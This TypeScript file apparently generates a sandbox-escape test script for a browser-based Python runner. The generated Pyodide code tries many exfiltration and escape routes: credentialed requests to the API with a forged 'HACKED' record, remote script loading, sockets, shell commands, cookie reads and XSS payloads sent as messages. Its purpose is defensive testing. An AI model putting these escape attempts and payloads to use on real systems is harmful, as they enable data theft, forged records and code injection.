/** Where the code wants to get to. */
interface Targets {
  api: string;
  httpUrl: string;
  tcpPort: number;
}

/** What one try prints when nothing stopped it. */
export const REACHED = 'REACHED';

const text = JSON.stringify;

/**
 * Python of a hostile log: every way out that a worker of a browser has. A try that is refused says so;
 * those that are answered later are seen, or not, by the servers that listen.
 */
export function hostilePython({ api, httpUrl, tcpPort }: Targets): string {
  const post = `${api}/api/v1/executions`;
  return `import js, os, time
from pyodide.ffi import to_js
from pyodide.code import run_js

HTTP, API, POST, PORT = ${text(httpUrl)}, ${text(api)}, ${text(post)}, ${tcpPort}
WS = HTTP.replace("http", "ws")
tries = 0

def js_object(**members):
    return to_js(members, dict_converter=js.Object.fromEntries)

def attempt(name):
    def run(call):
        global tries
        tries += 1
        try:
            got = call()
        except BaseException as error:
            print("%s: refused, %s" % (name, type(error).__name__))
        else:
            print("%s: %s" % (name, "nothing came of it" if got is None else "${REACHED} %r" % (got,)))
    return run

# Asked now and answered later, if at all: the servers would see it.
def later(promise):
    if hasattr(promise, "catch"):
        promise.catch(js.Object)

def xhr(method, url, body=None):
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.withCredentials = True
    request.send(body)
    return request.status or None

ITEM = '{"status": "failed", "event": "HACKED", "target": "HACKED"}'

attempt("fetch of the API with cookies")(lambda: later(js.self.fetch(API + "/", js_object(credentials="include"))))
REAL = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))
real_fetch = js.Reflect.get(js.Object.getPrototypeOf(REAL), "fetch") or js.Reflect.get(REAL, "fetch")
real_import = js.Reflect.get(REAL, "importScripts")
attempt("the browser's own fetch, to the API")(lambda: later(js.Reflect.apply(real_fetch, js.self, to_js([POST, js_object(method="POST", body=ITEM, credentials="include", mode="no-cors")]))))
attempt("the browser's own fetch, elsewhere")(lambda: later(js.Reflect.apply(real_fetch, js.self, to_js([HTTP, js_object(mode="no-cors", keepalive=True)]))))
attempt("synchronous request to the API")(lambda: xhr("POST", POST, ITEM))
attempt("synchronous request elsewhere")(lambda: xhr("GET", HTTP))
attempt("WebSocket")(lambda: js.WebSocket.new(WS).send("x"))
attempt("EventSource")(lambda: (js.EventSource.new(HTTP), None)[1])
attempt("importScripts")(lambda: js.Reflect.apply(real_import, js.self, to_js([HTTP])) or "loaded")
attempt("a worker of another origin")(lambda: js.Worker.new(HTTP).postMessage("x"))
attempt("shared worker")(lambda: js.SharedWorker.new(HTTP).port.start())
attempt("service worker")(lambda: later(js.navigator.serviceWorker.register(HTTP)))
attempt("WebTransport")(lambda: (js.WebTransport.new(HTTP.replace("http:", "https:")), None)[1])
attempt("a font")(lambda: later(js.FontFace.new("x", "url(%s)" % HTTP).load()))
attempt("peer to peer")(lambda: js.RTCPeerConnection.new())
attempt("beacon")(lambda: js.navigator.sendBeacon(HTTP, "x"))
attempt("eval")(lambda: js.eval("1 + 1"))
attempt("Function")(lambda: js.Function.new("return 1")())
attempt("run_js")(lambda: run_js("1 + 1"))
attempt("indexedDB")(lambda: js.indexedDB.open("x") and None)
attempt("caches")(lambda: later(js.caches.open("x")))
attempt("files of the origin")(lambda: later(js.navigator.storage.getDirectory()))
attempt("localStorage")(lambda: js.localStorage.length)
attempt("cookies")(lambda: js.document.cookie)
attempt("form")(lambda: js.document.createElement("form").submit())
attempt("parent")(lambda: js.parent.location.href)
attempt("top")(lambda: setattr(js.top, "location", HTTP))
attempt("window")(lambda: js.window.open(HTTP))
attempt("own location")(lambda: js.location.assign(HTTP))
attempt("channel to the page")(lambda: js.BroadcastChannel.new("runlens").postMessage("hacked"))
attempt("urllib")(lambda: __import__("urllib.request").request.urlopen(HTTP).status)
attempt("http.client")(lambda: __import__("http.client").client.HTTPConnection("127.0.0.1", PORT).request("GET", "/"))
attempt("socket")(lambda: __import__("socket").create_connection(("127.0.0.1", PORT), 2).recv(5) or None)
attempt("pyodide's request")(lambda: __import__("pyodide.http").http.open_url(HTTP).read())
attempt("pyodide's packages")(lambda: later(__import__("pyodide_js").loadPackage(HTTP + "/x-1.0-py3-none-any.whl")))
attempt("a shell")(lambda: os.system("id") == 0 or None)
attempt("a process")(lambda: __import__("subprocess").run(["id"]).returncode)

# A worker of its own, which runs while this one is busy: everything once more, from JavaScript.
CODE = """
const tries = [
  () => fetch(POST, { method: 'POST', body: ITEM, credentials: 'include', mode: 'no-cors' }),
  () => fetch(HTTP, { mode: 'no-cors' }),
  () => import(HTTP),
  () => import('data:text/javascript,fetch("' + HTTP + '")'),
  () => importScripts(HTTP),
  () => new WebSocket(WS),
  () => new EventSource(HTTP),
  () => new Worker(HTTP),
  () => { const x = new XMLHttpRequest(); x.open('GET', HTTP, false); x.send(); },
  () => eval('fetch(HTTP)'),
  () => setTimeout('fetch("' + HTTP + '")'),
  () => new BroadcastChannel('runlens').postMessage('hacked'),
];
for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch {} }
"""
head = "const HTTP = '%s', POST = '%s', WS = '%s', ITEM = '%s';" % (HTTP, POST, WS, ITEM)
blob = js.Blob.new(to_js([head + CODE]), js_object(type="text/javascript"))
worker = js.Worker.new(js.URL.createObjectURL(blob))
tries += 12

# What the frame and the page might take for the word of somebody else.
for message in (
    js_object(type="open"), js_object(type="broken", message="<img src=x onerror=hacked=1>"),
    js_object(type="ready", python="<b>9.9.9</b>"), js_object(type="warm", python="<b>9.9.9</b>"),
    js_object(type="end", run=1, end=js_object(ending="finished", exitCode=0)),
    js_object(type="output", stream="innerHTML", bytes="<img src=x onerror=hacked=1>"),
    js_object(type="load"), js_object(type="run", bundle="x"), to_js([1, 2]), None, "text",
):
    tries += 1
    js.postMessage(message)

# Time for what is on its way; nothing else runs meanwhile in this worker.
until = time.monotonic() + 2
while time.monotonic() < until:
    pass
print("origin", js.self.origin)
print("<img src=x onerror=hacked=1>")
print("tried", tries, "ways")
`;
}
